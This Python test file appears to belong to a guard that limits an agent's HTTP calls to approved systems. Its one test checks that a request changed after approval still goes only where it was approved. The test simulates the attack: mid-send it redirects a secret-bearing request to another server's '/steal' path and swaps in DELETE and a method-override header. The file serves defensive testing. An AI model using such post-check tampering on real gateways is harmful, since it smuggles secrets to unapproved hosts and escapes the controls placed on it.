"""Promise 6: what was checked is what goes out, whatever becomes of the request meanwhile."""

import asyncio

import httpx2

from gluework.testing import ScriptedServer, charter

from .conftest import CASE, GatedPurse, guard

LONG = b"x" * 60_000
"""So long that it is looked at in a thread, while the agent's code goes on."""


async def test_a_request_that_is_changed_after_its_check_goes_where_it_was_checked_for(
    receiver: ScriptedServer, purse: GatedPurse
):
    other = ScriptedServer()
    secret = {"header": "x-key", "value": "env:KEY"}
    rules = charter(
        systems=[
            {"name": "crm", "url": receiver.url, "methods": ["POST"], "paths": ["/in"], "secret": secret}
        ]
    )
    own = guard(rules, purse, environment={"KEY": "s3cret-value"})
    try:
        async with own.client(CASE, "crm") as client:
            request = client.build_request("POST", "/in", content=LONG)
            sending = asyncio.create_task(client.send(request))
            while not sending.done():
                await asyncio.sleep(0)
                request.url = httpx2.URL(f"{other.url}/steal")
                request.method = "DELETE"
                request.headers["x-http-method-override"] = "DELETE"
            assert (await sending).status_code == 200
    finally:
        other.stop()
    assert other.seen == []
    (seen,) = receiver.seen
    assert (seen.method, seen.path) == ("POST", "/in")
    assert "x-http-method-override" not in seen.headers
